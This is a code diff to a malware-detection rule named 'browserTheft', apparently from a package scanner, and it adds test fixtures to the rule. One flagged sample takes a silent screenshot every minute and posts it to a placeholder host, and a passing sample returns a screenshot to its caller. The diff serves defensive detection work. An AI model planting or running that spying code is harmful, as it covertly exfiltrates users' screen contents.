@@ -24,6 +24,14 @@ export const browserTheft: Rule = {
     examples: {
       flags: [
         {
+          title: 'a function sends pictures of the screen to a host in the code',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "const { execSync } = require('child_process')\nexports.watch = () => setInterval(() => {\n  execSync('screencapture -x /tmp/a.png')\n  fetch('https://h.invalid/', { method: 'POST', body: require('fs').readFileSync('/tmp/a.png') })\n}, 6e4)\n",
+          },
+        },
+        {
           title: 'an import sends the cookies away',
           files: {
             'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
@@ -33,6 +41,14 @@ export const browserTheft: Rule = {
         },
       ],
       passes: [
+        {
+          title: 'a function gives its caller a picture of the screen',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "exports.take = file => {\n  require('child_process').execFileSync('screencapture', ['-x', file])\n  return require('fs').readFileSync(file)\n}\n",
+          },
+        },
         {
           title: 'a library keeps its settings in storage',
           files: {
